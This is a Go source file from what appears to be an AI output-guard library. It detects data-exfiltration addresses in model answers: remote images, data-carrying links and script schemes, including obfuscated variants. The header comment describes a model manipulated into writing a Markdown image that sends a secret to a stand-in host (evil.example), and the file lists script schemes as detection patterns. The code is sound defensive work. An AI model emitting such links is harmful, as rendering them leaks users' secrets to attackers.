// Package exfil finds addresses in answers by which a page or client that shows them would carry data away: images and other
// parts that are loaded at once, links with data in them, and links that are scripts. A model that was talked into it writes
// ![x](https://evil.example/?d=SECRET), and whoever renders the answer sends the secret.
//
//	s, err := exfil.New("docs.example.com", "*.cdn.example.com")
//	g, err := guard.New(policy, guard.WithScanner(s.Start, exfil.IDs()...))
//
// What is found is the address alone: where the policy redacts, the text around it stays. An address is read as it stands, and as Markdown and HTML read it:
// with backslashes in front of punctuation and character references undone. One that is split by markup is not recognised; render answers without
// remote content where you can.
package exfil

import (
	"bytes"
	"errors"
	"fmt"
	"html"
	"strings"

	"github.com/holdfast-ai/holdfast/guard/stream"
	"github.com/holdfast-ai/holdfast/internal/entropy"
)

// Rules of findings.
const (
	RuleImage  = "exfil.image"  // an address that is loaded when it is shown, of a host that is not allowed
	RuleLink   = "exfil.link"   // a link that carries data to a host that is not allowed
	RuleScheme = "exfil.scheme" // javascript:, vbscript:, or data: that can hold a script
)

// Category is the OWASP LLM 2025 id of all findings: improper output handling.
const Category = "LLM05"

// IDs lists the rules.
func IDs() []string { return []string{RuleImage, RuleLink, RuleScheme} }

// ErrHost means that an allowed host cannot be one.
var ErrHost = errors.New("exfil: not a host")

// Hosts are those that answers may refer to. The zero value allows none.
type Hosts struct {
	exact  map[string]bool
	suffix []string // ".example.com"
}

// New allows hosts by name, "*." before a name for all below it. Errors: [ErrHost].
func New(hosts ...string) (*Hosts, error) {
	h := &Hosts{exact: make(map[string]bool)}
	for _, name := range hosts {
		below := strings.HasPrefix(name, "*.")
		bare := strings.ToLower(strings.TrimPrefix(name, "*."))
		if bare == "" || strings.ContainsAny(bare, "/:@*\\?# ") || strings.HasPrefix(bare, ".") || !strings.Contains(bare, ".") && bare != "localhost" {
			return nil, fmt.Errorf("%w: %q", ErrHost, name)
		}
		if below {
			h.suffix = append(h.suffix, "."+bare)
		} else {
			h.exact[bare] = true
		}
	}
	return h, nil
}

// allows reports whether a host is one of those, whatever its case.
func (h *Hosts) allows(host string) bool {
	host = strings.TrimSuffix(strings.ToLower(host), ".")
	if h.exact[host] {
		return true
	}
	for _, s := range h.suffix {
		if strings.HasSuffix(host, s) {
			return true
		}
	}
	return false
}

// Start returns a scanner of one text; see [stream.Scanner]. It holds back the word in progress.
func (h *Hosts) Start() stream.Scanner { return &follower{hosts: h} }

const (
	// maxWord bounds an address in bytes; the rest of a longer one is a word of its own.
	maxWord = 4096
	// maxBefore is how far before an address its use is looked for, in bytes: attributes of a tag may stand between.
	maxBefore = 256
)

// follower cuts a text into words, in which addresses stand.
type follower struct {
	hosts   *Hosts
	pos     int // of the word in progress
	word    []byte
	skipped int    // bytes within it that browsers skip
	before  []byte // the last of what was passed, white space as one byte
	passed  byte   // the last of it
	// Where in Markdown the last image began ("!["), and the last two destinations ("](").
	image       int
	destination [2]int
}

// ends has the bytes that no address contains, where it is not between quotes.
var ends = func() (t [256]bool) {
	for _, c := range []byte(" \t\r\n\f\"'<>`()[]{}|,") {
		t[c] = true
	}
	return t
}()

// Write implements [stream.Scanner]. The error is nil.
func (f *follower) Write(ms []stream.Match, p []byte) (matches []stream.Match, held int, err error) {
	for len(p) > 0 {
		n, most := 0, min(len(p), maxWord-len(f.word))
		for n < most && !ends[p[n]] {
			n++
		}
		f.word = append(f.word, p[:n]...)
		p = p[n:]
		if len(p) == 0 {
			break
		}
		if f.skips(p[0]) {
			f.skipped++
			p = p[1:]
			continue
		}
		ms = f.flush(ms)
		if ends[p[0]] {
			f.pass(p[:1])
			p = p[1:]
		}
	}
	return ms, len(f.word) + f.skipped, nil
}

// maxSkipped bounds what is skipped in one word, in bytes.
const maxSkipped = 64

// skips reports whether c is skipped in the host of an address in an attribute: browsers take tabs and the ends of lines out of
// addresses (WHATWG URL 4.4), so that what seems to end a host is followed by the rest of its name.
func (f *follower) skips(c byte) bool {
	if c != '\t' && c != '\n' && c != '\r' || f.passed != '"' && f.passed != '\'' || f.skipped >= maxSkipped || len(f.word) >= maxWord {
		return false
	}
	i := bytes.Index(f.word, []byte("//"))
	return i >= 0 && !bytes.ContainsAny(f.word[i+2:], "/\\?#")
}

// Finish implements [stream.Scanner]. The error is nil.
func (f *follower) Finish(ms []stream.Match) ([]stream.Match, error) { return f.flush(ms), nil }

func (f *follower) pass(p []byte) {
	switch {
	case p[0] == '[' && f.passed == '!':
		f.image = f.pos
	case p[0] == '(' && f.passed == ']':
		f.destination = [2]int{f.pos, f.destination[0]}
	}
	f.pos += len(p)
	if space(p[0]) && space(f.passed) { // as much as an attacker likes
		return
	}
	f.passed = p[len(p)-1]
	if len(p) > maxBefore {
		p = p[len(p)-maxBefore:]
	}
	if len(f.before)+len(p) > 4*maxBefore {
		f.before = f.before[:copy(f.before, f.before[len(f.before)-maxBefore:])]
	}
	f.before = append(f.before, p...)
}

// flush looks at the word and ends it.
func (f *follower) flush(ms []stream.Match) []stream.Match {
	if len(f.word) == 0 {
		return ms
	}
	rule, from := f.judge(f.word)
	if read := undone(f.word); rule == "" && read != nil { // where it begins is then not known
		rule, _ = f.judge(read)
	}
	if rule != "" {
		ms = append(ms, stream.Match{Rule: rule, Category: Category, Start: f.pos + from, End: f.pos + len(f.word) + f.skipped})
	}
	f.pass(f.word)
	f.pos += f.skipped
	f.word, f.skipped = f.word[:0], 0
	return ms
}

// undone returns a word as Markdown and HTML read it, backslashes in front of punctuation (CommonMark 2.4) and character references undone, or nil
// where it is read as it stands.
func undone(w []byte) []byte {
	if bytes.IndexByte(w, '\\') < 0 && bytes.IndexByte(w, '&') < 0 {
		return nil
	}
	out := make([]byte, 0, len(w))
	for i, c := range w {
		if c == '\\' && i+1 < len(w) && punctuation(w[i+1]) && w[i+1] != '\\' {
			continue
		}
		out = append(out, c)
	}
	return []byte(html.UnescapeString(string(out)))
}

func punctuation(c byte) bool {
	return c > ' ' && c < 0x7f && !letter(c) && (c < '0' || c > '9')
}

// judge says what is wrong with the address in a word, and where it begins.
func (f *follower) judge(w []byte) (rule string, from int) {
	if from := bare(w); from >= 0 {
		host, rest := cut(w[from:])
		if !f.hosts.allows(host) && carries(host, rest) {
			return RuleLink, from
		}
	}
	if bytes.IndexByte(w, ':') < 0 && !(len(w) > 2 && slash(w[0]) && slash(w[1])) { // no scheme, and no address without one
		return "", 0
	}
	if from, script := scheme(w); script {
		return RuleScheme, from
	}
	host, rest, from, ok := address(w, f.before)
	if !ok || f.hosts.allows(host) {
		return "", 0
	}
	if f.loaded(w[:from]) {
		return RuleImage, from
	}
	if carries(host, rest) {
		return RuleLink, from
	}
	return "", 0
}

// scheme looks for schemes that run what they hold.
func scheme(w []byte) (from int, script bool) {
	for _, s := range [...]string{"javascript:", "vbscript:", "data:text/html", "data:image/svg", "data:application/"} {
		if i := indexFold(w, s); i >= 0 && (i == 0 || !letter(w[i-1])) && len(w) > i+len(s) {
			return i, true
		}
	}
	return 0, false
}

func indexFold(w []byte, s string) int {
	for i := 0; i+len(s) <= len(w); i++ {
		if w[i]|0x20 == s[0] && bytes.EqualFold(w[i:i+len(s)], []byte(s)) {
			return i
		}
	}
	return -1
}

func space(c byte) bool { return c == ' ' || c == '\t' || c == '\r' || c == '\n' || c == '\f' }

func letter(c byte) bool { return c|0x20 >= 'a' && c|0x20 <= 'z' }

// slash reports whether browsers read c as a slash.
func slash(c byte) bool { return c == '/' || c == '\\' }

// address cuts an address into its host and what follows. Without a scheme ("//host/") it counts where an address is
// expected.
func address(w, before []byte) (host string, rest []byte, from int, ok bool) {
	at := -1
	for i := 0; i+2 < len(w); i++ {
		if w[i] != ':' {
			continue
		}
		for from = i; from > 0 && letter(w[from-1]); from-- {
		}
		if slash(w[i+1]) && slash(w[i+2]) && from < i {
			at = i + 3
			break
		}
		// Browsers need no slashes after these two (WHATWG URL, "special authority ignore slashes state").
		if s := w[from:i]; bytes.EqualFold(s, []byte("http")) || bytes.EqualFold(s, []byte("https")) {
			at = i + 1
			break
		}
	}
	if at < 0 {
		if len(w) < 3 || !slash(w[0]) || !slash(w[1]) || len(before) == 0 || bytes.IndexByte([]byte("(\"'=<"), before[len(before)-1]) < 0 {
			return "", nil, 0, false
		}
		from, at = 0, 2
	}
	for at < len(w) && slash(w[at]) { // "https:///host" is "https://host" to a browser
		at++
	}
	host, rest = cut(w[at:])
	return host, rest, from, len(host) > 0
}

// cut cuts what follows the slashes into the host and the rest.
func cut(w []byte) (host string, rest []byte) {
	end := 0
	for end < len(w) && !slash(w[end]) && w[end] != '?' && w[end] != '#' {
		end++
	}
	name := w[:end]
	if i := bytes.LastIndexByte(name, '@'); i >= 0 {
		name = name[i+1:]
	}
	if i := bytes.IndexByte(name, ':'); i >= 0 && !bytes.HasPrefix(name, []byte("[")) {
		name = name[:i]
	}
	return string(name), w[end:]
}

// bare returns where an address without a scheme begins that is made a link all the same (GitHub Flavored Markdown 6.9), or -1.
func bare(w []byte) int {
	from := 0
	for from < len(w) && (w[from] == '*' || w[from] == '_' || w[from] == '~') {
		from++
	}
	if len(w) < from+5 || !bytes.EqualFold(w[from:from+4], []byte("www.")) {
		return -1
	}
	return from
}

// loaded reports whether the address behind a part of its word is loaded as soon as it is shown: of an image in Markdown, a
// definition that images refer to, an attribute of HTML, a style sheet.
func (f *follower) loaded(part []byte) bool {
	b := append(append(make([]byte, 0, len(f.before)+len(part)), f.before...), part...)
	b = bytes.ToLower(b[max(0, len(b)-maxBefore):])
	t := bytes.TrimRight(b, " \t\r\n\"'<")
	switch {
	case bytes.HasSuffix(t, []byte("](")):
		return f.image > f.destination[1] // however long the text of the image is
	case bytes.HasSuffix(t, []byte("]:")):
		return true
	case bytes.HasSuffix(t, []byte("url(")), bytes.HasSuffix(t, []byte("image(")), bytes.HasSuffix(t, []byte("image-set(")), bytes.HasSuffix(t, []byte("@import")):
		return true
	}
	if name, ok := bytes.CutSuffix(t, []byte("=")); ok { // whatever stands in front of it, such as an attribute with ">" in it
		name = bytes.TrimRight(name, " ")
		for _, a := range loading {
			if bytes.HasSuffix(name, []byte(a)) {
				return true
			}
		}
	}
	tag := bytes.LastIndexByte(b, '<')
	if tag < 0 || bytes.IndexByte(b[tag:], '>') >= 0 {
		return false
	}
	inside := b[tag:]
	for _, a := range loading {
		if i := bytes.LastIndex(inside, []byte(a)); i > 0 && bytes.IndexByte(inside[i:], '=') >= 0 {
			return true
		}
	}
	for _, tag := range [...]string{"<link", "<meta", "<image", "<use", "<feimage", "<base"} {
		if bytes.HasPrefix(inside, []byte(tag)) {
			return true
		}
	}
	return false
}

// loading are the attributes of HTML whose addresses are loaded.
var loading = [...]string{"src", "srcset", "background", "poster", "data", "action", "ping", "style", "xlink:href"}

const (
	longQuery = 24  // bytes: search terms and page numbers are shorter
	longLabel = 32  // of a host: names can carry data to whoever answers for them
	longHost  = 96  // of all its labels: longer than those of clouds
	longPath  = 160 // bytes in all
	longPart  = 24  // of a path, if it looks random
	random    = 3.9 // bits for each byte
)

// carries reports whether an address has room for data, or data in it.
func carries(host string, rest []byte) bool {
	if len(host) >= longHost {
		return true
	}
	for label := range strings.SplitSeq(host, ".") {
		if len(label) >= longLabel {
			return true
		}
	}
	path, query, _ := bytes.Cut(rest, []byte("?"))
	path, fragment, _ := bytes.Cut(path, []byte("#"))
	if len(query) >= longQuery || len(fragment) >= longPath || len(path) >= longPath {
		return true
	}
	for part := range bytes.SplitSeq(path, []byte("/")) {
		if len(part) >= longPart && entropy.Bits(part) >= random {
			return true
		}
	}
	return false
}
